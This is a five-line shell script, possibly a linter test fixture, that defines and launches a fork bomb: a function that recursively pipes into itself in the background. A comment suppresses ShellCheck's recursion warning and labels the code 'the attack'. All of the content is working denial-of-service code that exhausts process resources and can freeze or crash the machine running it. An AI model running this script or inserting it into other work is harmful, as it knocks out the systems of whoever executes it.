#!/bin/sh
# shellcheck disable=SC2264 # which is the attack
b() { b | b & }
b
wait
